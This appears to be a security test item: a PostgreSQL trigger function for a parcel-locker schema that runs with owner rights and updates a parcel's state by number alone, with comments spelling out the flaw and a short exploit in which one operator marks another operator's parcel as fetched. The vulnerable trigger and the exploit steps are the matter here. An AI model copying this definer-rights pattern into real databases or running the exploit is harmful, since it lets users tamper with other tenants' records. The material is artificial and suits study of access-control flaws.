-- The trigger sets the parcel's state with its owner's rights and looks only at the parcel's number.
-- about: events, parcels, apply_event
-- as: hf_lockers_courier
-- exploit: SET app.operator_id = '1';
-- exploit: INSERT INTO lock.events VALUES (1, '2026-05-01', 200, 'fetched');
-- exploit: SET app.operator_id = '2';
-- exploit: SELECT 'parcel is ' || state FROM lock.parcels WHERE nr = 200;
-- shows: parcel is fetched
CREATE FUNCTION lock.apply_event() RETURNS trigger
  LANGUAGE plpgsql SECURITY DEFINER
  SET search_path = pg_catalog, pg_temp
AS $$
BEGIN
  UPDATE lock.parcels SET state = NEW.what WHERE nr = NEW.parcel_nr;
  RETURN NULL;
END
$$;
CREATE TRIGGER apply_event AFTER INSERT ON lock.events
  FOR EACH ROW EXECUTE FUNCTION lock.apply_event();
